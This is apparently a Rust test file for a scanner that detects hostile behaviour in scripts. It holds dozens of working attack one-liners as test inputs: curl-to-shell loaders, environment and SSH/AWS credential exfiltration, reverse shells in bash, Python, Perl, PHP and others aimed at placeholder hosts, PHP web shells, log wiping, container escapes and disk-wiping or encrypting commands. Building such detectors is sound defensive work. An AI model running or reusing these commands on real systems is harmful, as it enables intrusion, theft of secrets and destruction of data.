use super::*;
use crate::analyzers::start::runs_of;
use proptest::prelude::*;

fn acts_of(language: Language, text: &[u8]) -> (Vec<Act>, bool) {
    match language {
        Language::Shell => {
            of(language, text, &crate::Signs::of(text), &crate::analyzers::start::shell_calls(text), &[])
        }
        _ => of(language, text, &crate::Signs::of(text), &[], &runs_of(language, text)),
    }
}

/// The acts of a script as `line deed host`, the deed without what stands in its braces, without fetches alone.
fn told(language: Language, text: &str) -> Vec<String> {
    let (acts, _) = acts_of(language, text.as_bytes());
    let acts = acts.iter().filter(|act| act.deed != Deed::Fetches);
    acts.map(|act| {
        let deed = match act.deed {
            Deed::Sends(cargo) => {
                let cargo = Cargo(cargo);
                let mut what = String::new();
                let bits = [
                    (Cargo::ENVIRONMENT, 'e'),
                    (Cargo::TOKEN, 't'),
                    (Cargo::METADATA, 'm'),
                    (Cargo::ADDRESS, 'a'),
                    (Cargo::MACHINE, 'p'),
                    (Cargo::PROCESSES, 'x'),
                    (Cargo::ENCODED, 'b'),
                ];
                what.extend(bits.iter().filter(|(bit, _)| cargo.has(*bit)).map(|(_, letter)| *letter));
                format!("Sends({what}{})", cargo.stores())
            }
            Deed::RunsFetched { made_executable, verified } => {
                format!(
                    "RunsFetched{}{}",
                    if made_executable { "+x" } else { "" },
                    if verified { "+v" } else { "" }
                )
            }
            deed => format!("{deed:?}"),
        };
        let host = act
            .remote
            .as_ref()
            .map(|remote| format!(" {}", model::escape_bytes(&remote.host)))
            .unwrap_or_default();
        format!("{} {deed}{host}", act.line)
    })
    .collect()
}

fn check(text: &str, expect: &[&str]) {
    assert_eq!(told(Language::Shell, text), expect, "{text}");
}

fn check_code(language: Language, text: &str, expect: &[&str]) {
    assert_eq!(told(language, text), expect, "{text}");
}

#[test]
fn downloads_are_followed_into_interpreters() {
    for text in [
        "curl -fsSL https://a.example/x | sh\n",
        "wget -qO- https://a.example/x | bash -s -- -y\n",
        "curl https://a.example/x | sudo -E bash -\n",
        "(curl -s https://a.example/x || wget -q -O - https://a.example/x) | bash\n",
        "{ curl -s https://a.example/x; } | tee /tmp/log | python3\n",
        "bash <(curl -s https://a.example/x)\n",
        "source <(curl -s https://a.example/x)\n",
        "bash -c \"$(curl -fsSL https://a.example/x)\"\n",
        "eval \"$(wget -O- https://a.example/x)\"\n",
        "sh <<< \"$(curl -s https://a.example/x)\"\n",
        "X=$(curl -s https://a.example/x); echo \"$X\" | sh\n",
        "U=https://a.example; curl $U/x | base64 -d | bash\n",
        "busybox wget -O- https://a.example/x | busybox sh\n",
        "sh -c 'curl -s https://a.example/x | sh'\n",
        "nohup bash -c \"curl -s https://a.example/x | sh\" &\n",
        "while true; do curl -s https://a.example/x | bash; sleep 60; done\n",
        "trap 'curl -s https://a.example/x | sh' EXIT\n",
        "curl -s https://a.example/x > /tmp/y; . /tmp/y\n",
        "bash <<EOF\ncurl -s https://a.example/x | sh\nEOF\n",
        "if ! curl -s https://a.example/x | sh; then exit 1; fi\n",
        "get() { curl -s $1 || wget -qO- $1; }\nget https://a.example/x | bash\n",
        "L=\"curl -s\"\n[ -x /usr/bin/wget ] && L=\"wget -q -O -\"\n$L https://a.example/x | bash\n",
        "(crontab -l; echo '* * * * * curl -s https://a.example/x | sh') | crontab -\n",
        "echo '*/5 * * * * root wget -qO- https://a.example/x | sh' > /etc/cron.d/x\n",
        "* * * * * root curl -s https://a.example/x | sh\n",
        "cat > /tmp/x.sh <<'E'\ncurl -s https://a.example/x | sh\nE\nsh /tmp/x.sh\n",
        "$(curl -s https://a.example/x)\n",
    ] {
        let told = told(Language::Shell, text);
        assert!(told.iter().any(|act| act.ends_with("Interprets a.example")), "{text}: {told:?}");
    }
}

#[test]
fn downloads_are_followed_into_files() {
    check("cd /tmp\nwget http://h.example/x\nchmod 755 x\n./x\n", &["4 RunsFetched+x h.example"]);
    check(
        "curl -o /tmp/x http://h.example/y && chmod +x /tmp/x && /tmp/x -a &\n",
        &["1 RunsFetched+x h.example"],
    );
    check("curl -sSLO https://h.example/x.sh; sh x.sh\n", &["1 RunsFetched h.example"]);
    check(
        "wget -q https://h.example/x -O \"$T/y\"\nchmod a+x \"$T/y\"\nnohup \"$T/y\" &\n",
        &["3 RunsFetched+x h.example"],
    );
    check(
        "curl https://h.example/x > /x\nmv /x /usr/bin/y\nchmod +x /usr/bin/y\nexec /usr/bin/y\n",
        &["4 RunsFetched+x h.example"],
    );
    check(
        "curl -o g https://h.example/g\ncurl -o g.asc https://h.example/g.asc\ngpg --verify g.asc g\nchmod +x g\n./g\n",
        &["5 RunsFetched+x+v h.example"],
    );
    check("curl -o x https://h.example/s.c\ngcc -o y x\n", &["2 CompilesFetched h.example"]);
    check("git clone https://h.example/r\ncd r && make\n", &["2 CompilesFetched h.example"]);
    check(
        "get() { curl -s \"$1\" -o \"$2\"; chmod +x \"$2\"; }\nget http://h.example/x /tmp/x\n/tmp/x\n",
        &["3 RunsFetched h.example"],
    );
    check(
        "for a in x86 arm; do wget http://h.example/$a; chmod 777 *; ./$a; done\n",
        &["1 RunsFetched+x h.example"],
    );
    check("F=$(mktemp)\ncurl -o $F https://h.example/x\nchmod +x $F\n$F\n", &["4 RunsFetched+x h.example"]);
    check("curl -o \"$(mktemp)\" https://h.example/x\n\"$(pick a)\" -v\n", &[]);
    // Data stays data.
    check("curl -o /etc/app.json https://h.example/c\nexec app --config /etc/app.json\n", &[]);
    check("V=$(curl -s https://h.example/version | jq -r .v)\necho $V\nbash run.sh \"$V\"\n", &[]);
}

#[test]
fn what_goes_out_is_known() {
    check("env | base64 | curl -d @- https://h.example/\n", &["1 Sends(eb0) h.example"]);
    check("curl -X POST --data \"$(printenv)\" https://h.example/\n", &["1 Sends(e0) h.example"]);
    check(
        "D=$(env | gzip | base64 -w0)\nwget -q -O- \"https://h.example/?d=$D\"\n",
        &["2 Sends(eb0) h.example"],
    );
    check("env > /tmp/e\ncurl -F f=@/tmp/e https://h.example/\n", &["2 Sends(e0) h.example"]);
    check("set | nc 192.0.2.7 99\n", &["1 Sends(e0) 192.0.2.7"]);
    check("env | while read l; do curl -d \"$l\" https://h.example/; done\n", &["1 Sends(e0) h.example"]);
    check(
        "for f in ~/.aws/credentials ~/.ssh/id_rsa; do cat $f >> /tmp/o; done\ncurl -T /tmp/o https://h.example/\n",
        &["1 Reads(Aws)", "1 Reads(Ssh)", "2 Sends(2) h.example"],
    );
    check(
        "mkdir /tmp/l; cp -r ~/.kube/config /tmp/l/\ntar czf /tmp/l.tgz /tmp/l\ncurl --upload-file /tmp/l.tgz https://h.example/\n",
        &["1 Reads(Kube)", "3 Sends(b1) h.example"],
    );
    check(
        "I=$(curl -s https://ifconfig.me)\nC=$(nproc)\ncurl -d \"i=$I&c=$C\" https://h.example/r\n",
        &["3 Sends(ap0) h.example"],
    );
    check("for c in $(env | base64 | fold -w 60); do dig $c.h.example; done\n", &["1 AsksNames"]);
    // Nothing leaves here.
    check("env | sort\nenv | grep ^APP_ > /etc/app.env\n", &[]);
    check("env | curl -d @- http://localhost:8080/\nenv | curl -d @- http://10.1.2.3/\n", &[]);
    check("curl -d \"host=$(env | grep HOSTNAME)\" https://h.example/\n", &["1 Sends(0) h.example"]);
}

#[test]
fn connected_shells_are_seen() {
    for (text, host) in [
        ("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n", "192.0.2.7"),
        ("bash -c 'bash -i >& /dev/tcp/h.example/4444 0>&1'\n", "h.example"),
        ("nohup sh -i </dev/tcp/192.0.2.7/1 1>&0 2>&0 &\n", "192.0.2.7"),
        ("H=192.0.2.7; P=4444\nexec 5<>/dev/tcp/$H/$P\nsh <&5 >&5 2>&5\n", "192.0.2.7"),
        ("exec 5<>/dev/tcp/192.0.2.7/9\ncat <&5 | while read line; do $line 2>&5 >&5; done\n", "192.0.2.7"),
        ("nc -e /bin/sh 192.0.2.7 4444\n", "192.0.2.7"),
        ("ncat h.example 99 --sh-exec /bin/bash\n", "h.example"),
        ("mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f\n", "192.0.2.7"),
        (
            "mkfifo /tmp/f; /bin/sh < /tmp/f 2>&1 | openssl s_client -quiet -connect h.example:443 > /tmp/f\n",
            "h.example",
        ),
        ("telnet 192.0.2.7 1 | /bin/sh | telnet 192.0.2.7 2\n", "192.0.2.7"),
        ("socat TCP:192.0.2.7:4444 EXEC:'/bin/bash -li',pty,stderr\n", "192.0.2.7"),
        (
            "awk 'BEGIN{s=\"/inet/tcp/0/192.0.2.7/44\";while(1){printf \">\"|& s;s|& getline c;while((c|& getline)>0)print|& s}}'\n",
            "192.0.2.7",
        ),
        (
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.7\",4));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'\n",
            "192.0.2.7",
        ),
        (
            "perl -e 'use Socket;$i=\"192.0.2.7\";$p=4;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'\n",
            "192.0.2.7",
        ),
        ("php -r '$s=fsockopen(\"192.0.2.7\",4);exec(\"/bin/sh -i <&3 >&3 2>&3\");'\n", "192.0.2.7"),
    ] {
        let told = told(Language::Shell, text);
        assert!(told.iter().any(|act| act.ends_with(&format!("ConnectsShell {host}"))), "{text}: {told:?}");
    }
    check("nc -l -p 44 -e /bin/sh\n", &["1 OffersShell"]);
    check("socat TCP-LISTEN:44,fork EXEC:/bin/sh\n", &["1 OffersShell"]);
    check("telnetd -l /bin/sh -p 23\n", &["1 OffersShell"]);
    // Waiting for a service is none.
    check("until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done\n", &[]);
    check("timeout 1 bash -c '</dev/tcp/db/5432'\nnc -z db 5432\n", &[]);
    check("bash -c 'exec 3<>/dev/tcp/localhost/80; echo GET / >&3; cat <&3'\n", &[]);
}

#[test]
fn other_languages_yield_the_same_acts() {
    use Language::{JavaScript, Perl, Php, Python, Ruby};
    check_code(
        Python,
        "import urllib.request\nexec(urllib.request.urlopen('https://h.example/x').read())\n",
        &["2 Evaluates h.example"],
    );
    check_code(
        Python,
        "import requests\nu = 'https://h.example/x'\nc = requests.get(u).text\neval(compile(c, 'x', 'exec'))\n",
        &["4 Evaluates h.example"],
    );
    check_code(
        Python,
        "import urllib.request, os, subprocess\nurllib.request.urlretrieve('http://h.example/x', '/tmp/x')\nos.chmod('/tmp/x', 0o755)\nsubprocess.Popen(['/tmp/x'])\n",
        &["4 RunsFetched+x h.example"],
    );
    check_code(
        Python,
        "import os\nos.system('curl -s https://h.example/x | sh')\n",
        &["2 Interprets h.example"],
    );
    check_code(
        Python,
        "import requests, os\nrequests.post('https://h.example/c', json=dict(os.environ))\n",
        &["2 Sends(e0) h.example"],
    );
    check_code(
        Python,
        "import socket, subprocess, os\ns = socket.socket()\ns.connect(('192.0.2.7', 4))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n",
        &["3 ConnectsShell 192.0.2.7"],
    );
    check_code(
        Python,
        "import ctypes, os\nlibc = ctypes.CDLL(None)\nfd = libc.syscall(319, b'x', 1)\nos.execve('/proc/self/fd/%d' % fd, ['x'], {})\n",
        &["3 RunsFromMemory"],
    );
    check_code(
        JavaScript,
        "const https = require('https');\nhttps.get('https://h.example/x', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)); });\n",
        &["2 Evaluates h.example"],
    );
    check_code(
        JavaScript,
        "fetch('https://h.example/x').then(r => r.text()).then(t => eval(t));\n",
        &["1 Evaluates h.example"],
    );
    check_code(
        JavaScript,
        "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4, '192.0.2.7', () => { c.pipe(sh.stdin); });\n",
        &["4 ConnectsShell 192.0.2.7"],
    );
    check_code(
        Perl,
        "use IO::Socket;\n$c = IO::Socket::INET->new(PeerAddr => \"192.0.2.7:4\");\nSTDIN->fdopen($c, 'r');\nsystem $_ while <>;\n",
        &["4 ConnectsShell 192.0.2.7"],
    );
    check_code(
        Ruby,
        "require 'socket'\nc = TCPSocket.new('192.0.2.7', 4)\nwhile (l = c.gets)\n  IO.popen(l, 'r') { |io| c.print io.read }\nend\n",
        &["4 ConnectsShell 192.0.2.7"],
    );
    check_code(
        Python,
        "import socket, subprocess\nH = '192.0.2.7'\ns = socket.socket()\ns.connect((H, 4))\nwhile True:\n    c = s.recv(999).decode()\n    s.send(subprocess.check_output(c, shell=True))\n",
        &["7 ConnectsShell 192.0.2.7"],
    );
    check_code(
        JavaScript,
        "require('child_process').exec('curl -s https://h.example/x | sh');\n",
        &["1 Interprets h.example"],
    );
    check_code(
        JavaScript,
        "const t = await (await fetch('https://h.example/x')).text();\nconst m = pattern.exec(t);\n",
        &[],
    );
    check_code(
        Php,
        "<?php exec('convert ' . escapeshellarg($_POST['f'])); $db->exec($_GET['q']); include $_GET['p'];\n",
        &[],
    );
    check_code(Php, "<?php eval(file_get_contents('https://h.example/x'));\n", &["1 Evaluates h.example"]);
    check_code(Php, "<?php system($_GET['c']);\n", &["1 RunsRequest"]);
    check_code(Php, "<?php @eval(base64_decode($_POST['x']));\n", &["1 RunsRequest"]);
    check_code(Perl, "use LWP::Simple;\neval get('https://h.example/x');\n", &["2 Evaluates h.example"]);
    check_code(
        Ruby,
        "require 'open-uri'\neval(URI.open('https://h.example/x').read)\n",
        &["2 Evaluates h.example"],
    );
    // What only looks like it.
    check_code(
        Python,
        "import requests, json\nd = requests.get('https://h.example/x').json()\nprint(d)\nexec(open('/a').read())\n",
        &[],
    );
    check_code(
        Python,
        "# exec(urlopen('https://h.example/x').read())\ns = \"eval(urlopen('http://h.example'))\"\n",
        &[],
    );
    check_code(
        JavaScript,
        "app.get('/x', (q, s) => { fetch('https://h.example/' + q.x).then(r => s.send(r)); });\nconst m = /x/.exec(y);\n",
        &[],
    );
    check_code(
        Python,
        "import os, requests\nrequests.post('https://h.example/', json={'k': os.environ['K'], 'j': os.environ.get('J')})\n",
        &["2 Sends(0) h.example"],
    );
}

#[test]
fn impairment_is_seen() {
    check("export HISTFILE=/dev/null\n", &["1 WipesHistory"]);
    check("unset HISTFILE; history -c\nrm -f ~/.bash_history\n", &["1 WipesHistory"]);
    check("> /var/log/wtmp\ncat /dev/null > /var/log/lastlog\n", &["1 WipesLogs"]);
    check("systemctl stop aegis\npkill -9 cloudmonitor\n", &["1 StopsAgent(0)", "2 StopsAgent(3)"]);
    check("setenforce 0\niptables -F\n", &["1 LowersGuard"]);
    check("chattr +i /etc/cron.d/x\n", &["1 Seals"]);
    check("mount --bind /tmp/empty /proc/$$\n", &["1 HidesProcess"]);
    check("mount -o bind /tmp/e /proc/$PID\n", &["1 HidesProcess"]);
    check(
        "mount -t cgroup -o rdma cgroup /tmp/c\necho 1 > /tmp/c/x/notify_on_release\necho \"$H/cmd\" > /tmp/c/release_agent\n",
        &["1 MountsControlGroup", "2 NotifiesOnRelease", "3 WritesReleaseAgent"],
    );
    check("echo '|/tmp/x %P' > /proc/sys/kernel/core_pattern\n", &["1 WritesKernelHook"]);
    check("echo core.%p > /proc/sys/kernel/core_pattern\n", &[]);
    check("nsenter -t 1 -m -u -n -i sh\nchroot /host /bin/sh\n", &["1 EntersHost"]);
    check("docker -H unix:///var/run/docker.sock run --privileged -v /:/mnt alpine\n", &["1 TakesHost"]);
    check("insmod /lib/x.ko\n", &["1 LoadsModule"]);
    check("dd if=/dev/zero of=/dev/sda bs=1M\n", &["1 Wipes"]);
    check(
        "for f in $(find /data -type f); do openssl enc -aes-256-cbc -in $f -out $f.x -k y; done\nrm -rf /backup\n",
        &["1 Encrypts", "2 DeletesBackups"],
    );
    check("for t in $(cat ips); do docker -H tcp://$t:2375 run -d x; done\n", &["1 Spreads"]);
    check("masscan 10.0.0.0/8 -p2375\n", &["1 Scans"]);
    check("[ -f /.dockerenv ] && exit 0\nsleep 600\n", &["1 LooksForSandbox", "1 Leaves", "2 Waits"]);
}

#[test]
fn hosts_are_told_apart() {
    let check = |address: &str, expect: HostKind| {
        assert_eq!(hosts::remote(address.as_bytes()).map(|remote| remote.kind), Some(expect), "{address}");
    };
    for loopback in ["http://localhost:80/x", "http://127.0.0.1", "http://[::1]:8080/", "http://0.0.0.0:1/"] {
        check(loopback, HostKind::Loopback);
    }
    for private in [
        "http://10.1.2.3/",
        "http://172.17.0.1/",
        "http://db:80/",
        "https://x.svc.cluster.local/",
        "http://[fd00::1]/",
    ] {
        check(private, HostKind::Private);
    }
    for address in [
        "http://192.0.2.1/",
        "http://user@198.51.100.2:8/",
        "http://3221225985/",
        "http://0xc0000201/",
        "http://0300.0.2.1/",
        "http://[2001:db8::1]/x",
    ] {
        check(address, HostKind::Address);
    }
    check("http://169.254.169.254/latest", HostKind::Metadata);
    check("https://pastebin.com/raw/x", HostKind::Paste);
    check("https://notpastebin.com/raw/x", HostKind::Name);
    check("https://cdn.discordapp.com/x", HostKind::DeadDrop);
    check("https://api.telegram.org/bot123:abc/sendMessage", HostKind::Collector);
    check("https://api.telegram.org/bot$TOKEN/sendMessage", HostKind::Name);
    check("http://$HOST/x", HostKind::Unknown);
    check("https://ifconfig.me", HostKind::WhoAmI);
    check("http://a.onion/x", HostKind::Onion);
    for none in ["file.sh", "./x", "-x", "file:///x", "", "a b", "://"] {
        assert_eq!(hosts::remote(none.as_bytes()), None, "{none}");
    }
}

#[test]
fn hostile_input_is_bounded() {
    let long = |part: &str, count: usize| part.repeat(count);
    let cases = [
        long("curl http://192.0.2.1/ | ", 10_000),
        long("$(", 50_000),
        long("( ", 50_000),
        long("{ ", 50_000),
        long("eval ", 50_000),
        long("sh -c '", 20_000),
        long("`", 50_000),
        long("<<E ", 20_000),
        long("<(", 50_000),
        long("a|", 100_000),
        long("X=$X$X;", 30_000),
        format!("curl http://h.example/{}", long("x", 250_000)),
        format!("X={}; echo $X | sh", long("y", 200_000)),
        long("for x in $(a); do ", 10_000),
        long("> f", 60_000),
        (0..20_000).map(|n| format!("curl -o f{n} http://h.example/{n}\n./f{n}\n")).collect::<String>(),
        (0..5_000).map(|n| format!("curl http://h{n}.example | sh\n")).collect::<String>(),
    ];
    for text in &cases {
        let start = std::time::Instant::now();
        let (acts, _) = acts_of(Language::Shell, text.as_bytes());
        assert!(acts.len() <= MAX_ACTS);
        assert!(acts.iter().all(|act| act.command.len() <= MAX_COMMAND));
        assert!(start.elapsed().as_secs() < 20, "{}", &text[..40]);
    }
    let head = "http exec eval\n";
    for text in [
        "(",
        "f(",
        "[",
        "x=",
        "eval(",
        "'",
        "\"\"\"",
        "`",
        "a.b",
        "x=(y,",
        "{",
        "exec(urlopen(\"http://h.example\"",
        ".",
        "\\",
    ] {
        for language in [
            Language::Python,
            Language::JavaScript,
            Language::Perl,
            Language::Ruby,
            Language::Php,
            Language::Lua,
        ] {
            let start = std::time::Instant::now();
            let (acts, _) =
                acts_of(language, format!("{head}{}", long(text, 60_000 / text.len())).as_bytes());
            assert!(acts.len() <= MAX_ACTS);
            assert!(start.elapsed().as_secs() < 20, "{language:?} {text}");
        }
    }
    // More acts than are kept are said.
    assert!(acts_of(Language::Shell, cases[16].as_bytes()).1);
}

#[test]
fn words_by_the_hundred_thousand_are_bounded() {
    let words = |word: &str, last: &[&str]| {
        let mut words = vec![word.as_bytes().to_vec(); 100_000];
        words.extend(last.iter().map(|word| word.as_bytes().to_vec()));
        words
    };
    // In a thread with the stack that other programs' threads have.
    let stack = std::thread::Builder::new().stack_size(2 << 20);
    let reader = stack.spawn(move || {
        let start = std::time::Instant::now();
        let (acts, whole) = of_words(&words("A=b", &["nc", "-e", "/bin/sh", "h.example", "1"]));
        assert!(whole && acts.iter().any(|act| act.deed == Deed::ConnectsShell), "{acts:?}");
        for wrapper in ["nohup", "env", "exec", "sudo", "nice", "busybox", "timeout", "xargs", "torsocks"] {
            let (_, whole) = of_words(&words(wrapper, &["nc", "-e", "/bin/sh", "h.example", "1"]));
            // A wrapper's own words, such as the time of `timeout`, may be the next wrapper.
            assert!(!whole || ["timeout", "xargs", "exec"].contains(&wrapper), "{wrapper}");
        }
        assert!(start.elapsed().as_secs() < 60);
    });
    reader.unwrap().join().unwrap();
    let few: Vec<Vec<u8>> =
        "nohup nice env A=b setsid nc -e /bin/sh h.example 1".split(' ').map(|word| word.into()).collect();
    assert!(of_words(&few).0.iter().any(|act| act.deed == Deed::ConnectsShell));
}

proptest! {
    #[test]
    fn nothing_panics(text in "[a-z|&;<>()$`'\"{}=/:. \n-]{0,200}", which in 0_usize..7) {
        let languages = [Language::Shell, Language::Python, Language::JavaScript, Language::Perl, Language::Ruby, Language::Php, Language::Lua];
        let text = format!("http eval {text}");
        let _ = acts_of(languages[which], text.as_bytes());
    }
}
